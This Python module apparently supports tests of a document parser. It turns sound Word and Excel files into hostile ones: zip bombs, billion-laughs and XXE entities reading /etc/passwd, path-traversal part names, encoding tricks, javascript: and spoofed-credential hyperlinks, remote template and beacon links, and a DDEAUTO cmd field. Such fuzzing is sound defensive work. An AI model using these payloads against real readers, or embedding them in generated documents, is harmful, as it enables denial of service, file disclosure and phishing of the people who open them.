"""Attacks on the files of Word and Excel: each takes a sound file and gives the bytes of a hostile one."""

import struct
import zipfile
from collections.abc import Callable

from tests.packages import parts_of, zipped

RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def main_of(parts: dict[str, bytes]) -> str:
    return "word/document.xml" if "word/document.xml" in parts else "xl/worksheets/sheet1.xml"


def _with_main(change: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    def attack(content: bytes) -> bytes:
        parts = parts_of(content)
        name = main_of(parts)
        return zipped({**parts, name: change(parts[name])})

    return attack


def _with_part(name: str, data: bytes) -> Callable[[bytes], bytes]:
    return lambda content: zipped({**parts_of(content), name: data})


def _root(data: bytes) -> bytes:
    """The main part without its XML declaration."""
    return data[data.index(b"?>") + 2 :] if data.startswith(b"<?xml") else data


def _declared(dtd: str, text: str = "&e;") -> Callable[[bytes], bytes]:
    """The main part with a document type, and an entity in its first text."""

    def change(data: bytes) -> bytes:
        root = _root(data)
        at = root.index(b"</w:t>") if b"</w:t>" in root else root.index(b"<sheetData")
        filled = root[:at] + text.encode() + root[at:] if b"</w:t>" in root else root
        return f'<?xml version="1.0"?><!DOCTYPE x [{dtd}]>'.encode() + filled

    return _with_main(change)


def _inserted(xml: bytes) -> Callable[[bytes], bytes]:
    """The main part with more before its end."""

    def change(data: bytes) -> bytes:
        at = data.rindex(b"</")
        return data[:at] + xml + data[at:]

    return _with_main(change)


def _encoded(encoding: str, declared: str) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        return f'<?xml version="1.0" encoding="{declared}"?>{_root(data).decode()}'.encode(
            encoding, "xmlcharrefreplace"
        )

    return _with_main(change)


def _patched(
    was: bytes, now: Callable[[bytes], bytes], offset: int, size: int, which: int = 0
) -> Callable[[bytes], bytes]:
    """A field of a zip header (found by its signature) overwritten."""

    def attack(content: bytes) -> bytes:
        at = -1
        for _ in range(which + 1):
            at = content.index(was, at + 1)
        field = content[at + offset : at + offset + size]
        return content[: at + offset] + now(field) + content[at + offset + size :]

    return attack


def _overlapping(content: bytes) -> bytes:
    """Every entry of the directory points to the same local file: one kernel of data, unpacked again and again."""
    parts = parts_of(content)
    kernel = zipped({**parts, "word/media/bomb.bin": bytes(30_000_000)})
    end = kernel.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", kernel[end + 16 : end + 20])[0]
    directory, copies = kernel[start:end], []
    at = directory.rindex(b"PK\x01\x02")
    entry = directory[at:]
    for n in range(300):
        name = f"word/media/bomb{n:03}".encode().ljust(len("word/media/bomb.bin"), b"x")
        copies.append(entry[:46] + name + entry[46 + len(name) :])
    whole = directory + b"".join(copies)
    count = len(parts) + 301
    tail = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(whole), start, 0)
    return kernel[:start] + whole + tail


def _relation(kind: str, target: str, mode: str = "External", id_: str = "rIdEvil") -> Callable[[bytes], bytes]:
    def attack(content: bytes) -> bytes:
        parts = parts_of(content)
        name = "word/_rels/document.xml.rels" if "word/document.xml" in parts else "xl/_rels/workbook.xml.rels"
        mode_ = f' TargetMode="{mode}"' if mode else ""
        more = f'<Relationship Id="{id_}" Type="{OFFICE}/{kind}" Target="{target}"{mode_}/></Relationships>'
        return zipped({**parts, name: parts[name].replace(b"</Relationships>", more.encode())})

    return attack


def _without(name: str) -> Callable[[bytes], bytes]:
    return lambda content: zipped({n: d for n, d in parts_of(content).items() if not n.endswith(name)})


def _replaced(name: str, was: bytes, now: bytes) -> Callable[[bytes], bytes]:
    def attack(content: bytes) -> bytes:
        parts = parts_of(content)
        return zipped({**parts, name: parts[name].replace(was, now)} if name in parts else parts)

    return attack


def _twice(content: bytes) -> bytes:
    parts = parts_of(content)
    name = main_of(parts)
    return zipped(parts, (name.replace("document", "Document").replace("sheet1", "Sheet1"), parts[name]))


LAUGHS = '<!ENTITY a "lol">' + "".join(
    f'<!ENTITY {c} "{f"&{p};" * 10}">' for p, c in zip("abcdefghi", "bcdefghij", strict=True)
)

#: What no reader may accept, whatever it is given to.
REFUSED: dict[str, Callable[[bytes], bytes]] = {
    "nothing": lambda content: b"",
    "a zip without anything": lambda content: zipped({}),
    "one huge part": _with_part("word/media/zeros.bin", bytes(45_000_000)),
    "many large parts": lambda content: zipped(
        {**parts_of(content), **{f"word/media/{n}.bin": bytes(9_000_000) for n in range(20)}}
    ),
    "many parts": lambda content: zipped({**parts_of(content), **{f"x/{n}.bin": b"" for n in range(5_000)}}),
    "parts over each other": _overlapping,
    "billion laughs": _declared(LAUGHS, "&j;"),
    "quadratic": _declared(f'<!ENTITY e "{"x" * 90_000}">', "&e;" * 20_000),
    "a file from the disk": _declared('<!ENTITY e SYSTEM "file:///etc/passwd">'),
    "a file from the net": _declared('<!ENTITY e SYSTEM "http://127.0.0.1:9/x">'),
    "a parameter entity": _declared('<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;', ""),
    "an empty document type": _declared("", ""),
    "a document type elsewhere": _with_main(lambda data: b'<!DOCTYPE x SYSTEM "file:///etc/passwd">' + _root(data)),
    "deep nesting": _inserted(b"<a>" * 100_000 + b"</a>" * 100_000),
    "an open end": _with_main(lambda data: data[: data.index(b"<", len(data) // 2) + 3]),
    "UTF-7": _encoded("utf-7", "UTF-7"),
    "EBCDIC": _encoded("cp037", "cp037"),
    "Latin 1": _encoded("latin-1", "ISO-8859-1"),
    "an unknown encoding": _encoded("utf-8", "no-such-encoding"),
    "a path out of the file": _with_part("../../evil.xml", b"<a/>"),
    "a path from the root": _with_part("/etc/evil.xml", b"<a/>"),
    "a path of Windows": _with_part("C:\\evil.xml", b"<a/>"),
    "a stream of Windows": _with_part("word/x.xml:evil", b"<a/>"),
    "a name with a control character": _with_part("word/\x1b[31m.xml", b"<a/>"),
    "the main part twice, in capitals": _twice,
    "the main part twice": lambda content: zipped(parts_of(content), (main_of(parts_of(content)), b"<evil/>")),
    "no content types": _without("[Content_Types].xml"),
    "macros": lambda content: zipped(
        {**parts_of(content), main_of(parts_of(content)).split("/")[0] + "/vbaProject.bin": b"x"}
    ),
    "half of it": lambda content: content[: len(content) // 2],
    "without its end": lambda content: content[:-10],
    "the other form of a list": lambda content: content[:-22] + b"PK\6\7" + bytes(16) + content[-22:],
    "an old file": lambda content: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000),
    "encrypted": _patched(b"PK\x01\x02", lambda _: b"\x01\x00", 8, 2),
    "another compression": _patched(b"PK\x01\x02", lambda _: struct.pack("<H", 12), 10, 2),
    "lzma": lambda content: zipped(parts_of(content), method=zipfile.ZIP_LZMA),
    "a size that is a lie": _patched(b"PK\x01\x02", lambda size: struct.pack("<I", 10), 24, 4, 1),
    "a wrong sum": _patched(b"PK\x01\x02", lambda _: b"\0\0\0\1", 16, 4, 1),
    "an entry behind the end": _patched(b"PK\x01\x02", lambda _: struct.pack("<I", 0x7FFFFFF0), 42, 4, 1),
    "a directory behind the end": _patched(b"PK\x05\x06", lambda _: struct.pack("<I", 0x7FFFFFF0), 16, 4),
}

#: What a reader may accept or refuse, in bounded time and memory.
BOUNDED: dict[str, Callable[[bytes], bytes]] = {
    "many attributes": _inserted(b"<a " + b" ".join(b'a%d="1"' % n for n in range(100_000)) + b"/>"),
    "many namespaces": _inserted(b"<a " + b" ".join(b'xmlns:n%d="u:%d"' % (n, n) for n in range(20_000)) + b"/>"),
    "namespaces one in the other": _inserted(
        b"".join(b'<a xmlns:n%d="u:%d">' % (n, n) for n in range(200)) + b"</a>" * 200
    ),
    "a long name": _inserted(b"<" + b"a" * 5_000_000 + b"/>"),
    "a long text": _inserted(b"<a>" + b"x" * 9_000_000 + b"</a>"),
    "many elements": _inserted(b"<a/>" * 500_000),
    "many references": _inserted(b"<a>" + b"&#65;" * 1_500_000 + b"</a>"),
    "many comments": _inserted(b"<!--a-->" * 500_000),
    "many instructions": _inserted(b"<?a b?>" * 500_000),
    "a wrong encoding": _encoded("utf-16", "UTF-8"),
    "a size beyond 4 GB": _patched(b"PK\x01\x02", lambda size: b"\xff\xff\xff\xff", 24, 4, 1),
    "another number of entries": _patched(b"PK\x05\x06", lambda _: b"\xff\xff\xff\xff", 8, 4),
    "UTF-16": _encoded("utf-16", "UTF-16"),
    "no relationships": _without("document.xml.rels"),
    "no styles": _without("styles.xml"),
    "no workbook relationships": _without("workbook.xml.rels"),
    "a relationship to itself": _relation("styles", "document.xml", ""),
    "a relationship into the void": _relation("styles", "void.xml", ""),
    "a relationship out of the file": _relation("styles", "../../../../etc/passwd", ""),
    "a relationship twice": _relation("styles", "styles.xml", "", "rId1"),
    "a relationship without a type": _relation("", "", ""),
    "an external sheet": _relation("worksheet", "http://127.0.0.1:9/x.xml"),
}
#: Parts that are in each other's place.
BOUNDED["another root"] = _with_main(
    lambda data: b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
)
BOUNDED["lists of no level"] = _replaced("word/styles.xml", b"<w:numId ", b'<w:ilvl w:val="A1"/><w:numId ')
BOUNDED["lists that name no definition"] = _replaced("word/numbering.xml", b"w:abstractNumId w:val", b"w:other w:val")
#: What a template may not have: who opens the document would fetch or run it.
UNSAFE: dict[str, Callable[[bytes], bytes]] = {
    "a script": _relation("hyperlink", "javascript:alert(1)"),
    "a script, spelt otherwise": _relation("hyperlink", "JaVa&#83;cript:alert(1)"),
    "data": _relation("hyperlink", "data:text/html;base64,PHNjcmlwdD4="),
    "a file": _relation("hyperlink", "file:///etc/passwd"),
    "a share": _relation("hyperlink", "\\\\server\\share\\x.docx"),
    "a relative file": _relation("hyperlink", "other.docx"),
    "a user name": _relation("hyperlink", "https://bank.example@evil.example/"),
    "an attached template": _relation("attachedTemplate", "http://127.0.0.1:9/evil.dotm"),
    "a linked picture": _relation("image", "http://127.0.0.1:9/beacon.png"),
    "a linked object": _relation("oleObject", "http://127.0.0.1:9/x"),
    "an embedded document": lambda content: _relation("aFChunk", "chunk.html", "")(
        _with_part("word/chunk.html", b"x")(content)
    ),
    "a missing part": _relation("header", "header99.xml", ""),
    "the same id twice": _relation("header", "header1.xml", "", "rId1"),
    "a relationship without an id": _replaced("word/_rels/document.xml.rels", b'Id="rId1"', b""),
    "a relationship to nothing": _replaced("word/_rels/document.xml.rels", b'Target="styles.xml"', b""),
    "DDE": _inserted(b'<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\x cmd "/></w:p>'),
    "a text from elsewhere": _inserted(
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r>'
        b'<w:r><w:instrText>TEXT "\\\\\\\\s\\\\x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "a link in a field": _inserted(b"<w:p><w:fldSimple w:instr=' HYPERLINK \"javascript:alert(1)\" '/></w:p>"),
}
